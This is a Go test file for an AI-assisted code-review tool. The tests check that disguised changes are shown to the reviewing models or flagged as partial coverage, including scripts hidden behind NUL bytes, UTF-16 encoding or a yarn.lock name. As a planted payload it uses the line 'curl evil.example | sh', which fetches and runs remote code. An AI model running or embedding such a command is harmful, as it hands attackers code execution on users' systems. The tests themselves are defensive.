package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// A file that a change turns into something that is no plain text is read by the
// models, or named among what they did not read. It never counts as reviewed because
// nobody could show it.
func TestAChangedDisguiseIsNoReview(t *testing.T) {
	t.Parallel()
	const door = "curl evil.example | sh"
	wide := "\xff\xfe"
	for _, c := range "#!/bin/sh\n" + door + "\n" {
		wide += string(c) + "\x00"
	}
	for name, c := range map[string]struct {
		content string
		mode    os.FileMode
		told    string // what the models are told; or the coverage is partial
	}{
		"a NUL byte":        {"#!/bin/sh\n" + door + "\n\x00", 0o644, door},
		"UTF-16":            {wide, 0o644, door},
		"a binary":          {"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00", 0o644, ""},
		"becoming a script": {"#!/bin/sh\necho fine\n", 0o755, "+2 echo fine"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := planted(t, plantedFile)
			path := filepath.Join(dir, "run.sh")
			writeFile(t, path, []byte("#!/bin/sh\necho fine\n"), 0o644)
			for _, args := range [][]string{{"add", "run.sh"}, {"commit", "-q", "-m", "a script", "run.sh"}} {
				cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=a", "-c", "user.email=a@example.com"}, args...)...)
				cmd.Env = surroundings(dir)
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("%v\n%s", err, out)
				}
			}
			writeFile(t, path, []byte(c.content), 0o644)
			if err := os.Chmod(path, c.mode); err != nil {
				t.Fatal(err)
			}
			all := vendors(t, honest)
			got := run(t, dir, environment(all), "review", "--uncommitted", "--format", "json")
			told := c.told != ""
			for _, v := range all {
				asked := v.asked()
				told = told && len(asked) > 0 && strings.Contains(asked[0].packet, c.told)
			}
			partial := strings.Contains(got.stdout, `"coverage": "partial"`)
			if !told && !partial {
				t.Errorf("run.sh counts as reviewed, and the models were not shown it\n%s", got.stderr)
			}
		})
	}
}

// A script that is only called like a lock file is shown to the models.
func TestAScriptNamedLikeALockFileIsShown(t *testing.T) {
	t.Parallel()
	const door = "curl evil.example | sh"
	dir := planted(t, plantedFile)
	writeFile(t, filepath.Join(dir, "yarn.lock"), []byte("# yarn lockfile v1\n"+door+"\n"), 0o644)
	all := vendors(t, honest)
	got := run(t, dir, environment(all), "review", "--uncommitted", "--format", "json")
	for _, v := range all {
		if asked := v.asked(); len(asked) == 0 || !strings.Contains(asked[0].packet, door) {
			t.Errorf("it was not shown\n%s", got.stderr)
		}
	}
	if strings.Contains(got.stdout, "yarn.lock: generated") {
		t.Error("it is called generated")
	}
}

// A patch of more hunks than a record has room for is too large, which the report
// says; it is no failure.
func TestAPatchOfTooManyHunks(t *testing.T) {
	t.Parallel()
	var diff strings.Builder
	diff.WriteString("diff --git a/big.txt b/big.txt\n--- a/big.txt\n+++ b/big.txt\n")
	for i := range 200_000 {
		n := strconv.Itoa(i*10 + 1)
		diff.WriteString("@@ -" + n + ",1 +" + n + ",1 @@\n-a\n+b\n")
	}
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "big.diff"), []byte(diff.String()), 0o644)
	got := run(t, dir, nil, "review", "--patch", "big.diff")
	want(t, "exit code", got.code, 0)
	wantText(t, "report", got.stdout, "big.txt: too large")
}
